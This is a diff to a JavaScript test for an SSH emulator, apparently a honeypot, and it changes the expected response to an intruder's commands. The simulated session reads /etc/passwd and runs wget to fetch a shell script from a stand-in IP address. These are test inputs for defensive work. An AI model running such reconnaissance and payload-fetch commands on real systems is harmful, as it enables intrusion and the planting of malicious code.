@@ -109,7 +109,7 @@ describe('ssh emulator', () => {
       channel.write('cat /etc/passwd\r')
       await waitScreen(/root:x:0:0:root:\/root:\/bin\/bash/)
       channel.write('wget http://203.0.113.9/x.sh\r')
-      await waitScreen(/wget: command not found/)
+      await waitScreen(/wget: unable to resolve host address/)
       channel.write('exit\r')
       await new Promise((resolve) => channel.on('close', resolve))
       const commands = ssh.events.filter((e) => e.event === 'command').map((e) => e.fields.cmd)
